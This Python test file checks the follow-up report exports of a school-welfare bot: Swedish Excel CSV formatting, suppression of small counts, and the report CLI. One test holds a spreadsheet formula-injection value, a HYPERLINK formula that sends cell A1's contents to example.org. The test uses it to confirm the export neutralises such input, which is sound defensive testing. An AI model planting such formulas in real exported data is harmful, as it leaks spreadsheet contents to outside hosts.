"""Term follow-up exports: the CSV as Swedish Excel opens it, and `bryggan report` as a real process."""

from __future__ import annotations

from pathlib import Path

from bot.app import Bryggan
from bot.followup import exports
from storage.models import (
    School,
)
from tests.followupbed import _report, _seed, seeded_term, term_settings

settings = term_settings()
seeded = seeded_term()


def test_the_csv_opens_in_swedish_excel(bryggan: Bryggan, seeded: tuple[int, int]) -> None:
    words = bryggan.services.templates.module("sv", "followup")
    data = exports.to_csv(
        exports.rows(_report(bryggan), municipality_name=words.municipality),
        words.headers | _breakdown_headers(),
    )
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    lines = data.decode("utf-8-sig").split("\r\n")
    header, berzelius, ekholm, everyone = (line.split(";") for line in lines[:4])
    assert header[:4] == ["Skola", "Konsultationer", "Orosanmälan rekommenderas", "Kvitterade"]
    column = {name: n for n, name in enumerate(exports.COLUMNS)}
    assert berzelius[column["ack_median_hours"]] == "3,5"  # decimal comma
    # 71,4 % would give the hidden total away (5 of 7): a share is shown only beside an exact total.
    assert berzelius[column["within_target_share"]] == ""
    assert berzelius[column["area:franvaro"]] == "<5"
    assert berzelius[column["consultations"]] == "x"  # else 9 − 7 gives Ekholmsskolan's 2
    assert ekholm[column["consultations"]] == "<5"
    assert ekholm[column["area:franvaro"]] == "–"  # withheld: fewer than five cases
    assert everyone[:2] == ["Hela kommunen", "9"]
    assert everyone[column["area:franvaro"]] == "4"
    assert lines[4] == ""  # CRLF after the last row, nothing else


def _breakdown_headers() -> dict[str, str]:
    return {c: c for c in exports.COLUMNS if ":" in c}


def test_bryggan_report_writes_the_csv_and_markdown_as_a_real_process(
    bryggan: Bryggan, seeded: tuple[int, int], database_url: str, tmp_path: Path
) -> None:
    from tests.e2e.test_admin_cli import _bryggan

    done = _bryggan(
        tmp_path, database_url, "report", "--term", "HT2026", "--format", "csv", "--output", "ht.csv"
    )
    assert done.returncode == 0, done.stderr
    data = (tmp_path / "ht.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfSkola;Konsultationer;")
    assert "Område: Frånvaro" in data.decode("utf-8-sig")
    markdown = _bryggan(tmp_path, database_url, "report", "--term", "HT2026", "--format", "md")
    assert markdown.returncode == 0, markdown.stderr
    assert "| Skola | Konsultationer |" in markdown.stdout
    assert "| Ekholmsskolan | <5 |" in markdown.stdout
    assert "| Hela kommunen | 9 |" in markdown.stdout
    bad = _bryggan(tmp_path, database_url, "report", "--term", "HT26")
    assert bad.returncode == 2
    assert "ingen termin" in bad.stderr


FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Öppna")'


def test_a_formula_like_school_name_stays_text_in_the_report_csv(
    bryggan: Bryggan, seeded: tuple[int, int], database_url: str, tmp_path: Path
) -> None:
    from sqlalchemy import update

    from tests.e2e.test_admin_cli import _bryggan

    with bryggan.sessions.begin() as session:
        session.execute(update(School).where(School.id == seeded[0]).values(name=FORMULA))
    done = _bryggan(
        tmp_path, database_url, "report", "--term", "HT2026", "--format", "csv", "--output", "ht.csv"
    )
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "ht.csv").read_bytes().decode("utf-8-sig")
    # Quoted for the `;` inside it, and a leading apostrophe so Excel shows it as text.
    assert '\r\n"\'=HYPERLINK(""http://example.org/?""&A1;""Öppna"")";' in text
    assert "\r\n=HYPERLINK" not in text
    assert '\r\n"=HYPERLINK' not in text


def test_an_empty_database_has_nothing_to_report_and_a_term_ahead_has_not_begun(
    bryggan: Bryggan, database_url: str, tmp_path: Path
) -> None:
    from tests.e2e.test_admin_cli import _bryggan

    empty = _bryggan(tmp_path, database_url, "report", "--format", "csv")
    assert empty.returncode == 2
    assert "inget att rapportera" in empty.stderr
    assert "flera arbetsytor" not in empty.stderr
    _seed(bryggan)
    ahead = _bryggan(tmp_path, database_url, "report", "--term", "HT2099", "--format", "md")
    assert ahead.returncode == 2
    assert "HT2099 har inte börjat än (den börjar 2099-08-01)" in ahead.stderr
    assert ahead.stdout == ""
